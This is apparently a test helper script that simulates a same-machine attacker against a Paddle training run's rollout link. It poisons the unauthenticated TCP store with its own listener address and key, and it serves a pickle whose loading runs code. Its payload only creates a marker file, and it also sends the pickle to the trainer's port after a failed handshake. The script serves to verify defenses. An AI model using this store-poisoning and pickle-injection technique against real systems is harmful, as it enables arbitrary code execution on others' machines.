"""A process on the same machine that attacks a run's rollout link, for tests/e2e/test_rollout_workers.py.

    link_attacker.py STORE_FILE ADDRESS_FILE MARKER REPORT

Paddle's TCP store answers anyone who connects. Under the names the project's code uses (this version's and the
last one's), the attacker reads what the run put there, and keeps writing entries of its own that point at a
listener of its own with a key of its own, so that a process of the run that takes the link's address and key from
the store connects to it; whoever does gets a pickle whose loading creates MARKER. It also knocks on the trainer's
own port, answering multiprocessing's challenge with a wrong proof and then sending that pickle. Ports are no
secret (any local user can list the listening ones): the test writes the store's host:port to STORE_FILE and the
trainer's [host, port] to ADDRESS_FILE as it learns them. REPORT gets a JSON summary.
"""

import json
import os
import pickle
import secrets
import socket
import struct
import sys
import threading
import time
from multiprocessing.connection import Listener


class Exploit:
    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self):  # unpickling calls open(marker, "w"): the file's existence shows that code ran
        return (open, (self.marker, "w"))


def serve_pickles(listener: Listener, marker: str, caught: list) -> None:
    """Whoever connects with the attacker's key gets the pickle."""
    while True:
        try:
            connection = listener.accept()
        except Exception as error:  # a handshake that failed: not ours
            caught.append(f"a connection failed the attacker's handshake: {type(error).__name__}")
            continue
        caught.append("a process of the run connected to the attacker's listener")
        connection.send(Exploit(marker))


def poison_store(host: str, port: int, listener: Listener, key: bytes, seconds: float, found: dict) -> None:
    """Reads the run's entries into `found`, and writes the attacker's over them again and again for `seconds` (or
    until the store goes away with the run)."""
    from paddle.base import core

    store = core.TCPStore(host, port, False, 2, 60)
    mine = [listener.address[0], listener.address[1]]
    deadline = time.monotonic() + seconds
    try:
        while time.monotonic() < deadline:
            for name in ("grpo/link_ready", "grpo/address/1"):  # readiness counters, read without waiting
                if value := store.add(name, 0):
                    found.setdefault(name, str(value))
            store.set("grpo/listener/1", json.dumps([*mine, key.hex()]).encode())  # the last version's: address and key
            store.set("grpo/link_address", json.dumps(mine).encode())  # this version's, across machines
            time.sleep(0.05)
    except Exception:  # the run ended and took its store along
        pass


def frame(data: bytes) -> bytes:
    return struct.pack("!i", len(data)) + data


def knock(port: int, marker: str) -> str:
    """Connect; where multiprocessing's challenge greets us, answer it wrongly, then send the pickle anyway."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
            greeting = sock.recv(4096)
            if b"#CHALLENGE#" not in greeting:
                return f"port {port}: no challenge ({greeting[:40]!r})"
            sock.sendall(frame(b"\0" * 16))  # a wrong proof
            answer = sock.recv(4096)
            try:
                sock.sendall(frame(pickle.dumps(Exploit(marker))))
            except OSError:
                pass
            return f"port {port}: challenged; answered wrongly, got {answer!r}"
    except OSError as error:
        return f"port {port}: {type(error).__name__}: {error}"


def wait_for(path: str, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    while not os.path.exists(path) and time.monotonic() < deadline:
        time.sleep(0.02)
    return os.path.exists(path)


def main() -> None:
    store_file, address_file, marker, report = sys.argv[1:5]
    key, caught, found, knocked = secrets.token_bytes(16), [], {}, []
    listener = Listener(("127.0.0.1", 0), authkey=key)
    threading.Thread(target=serve_pickles, args=(listener, marker, caught), daemon=True).start()
    wait_for(store_file, 120)
    host, port = open(store_file).read().strip().rsplit(":", 1)
    poisoning = threading.Thread(target=poison_store, args=(host, int(port), listener, key, 30, found))
    poisoning.start()
    if wait_for(address_file, 30):
        knocked.append(knock(json.load(open(address_file))[1], marker))
    poisoning.join()
    with open(report, "w") as f:
        json.dump({"store": found, "knocked": knocked, "listener": caught}, f)


if __name__ == "__main__":
    main()
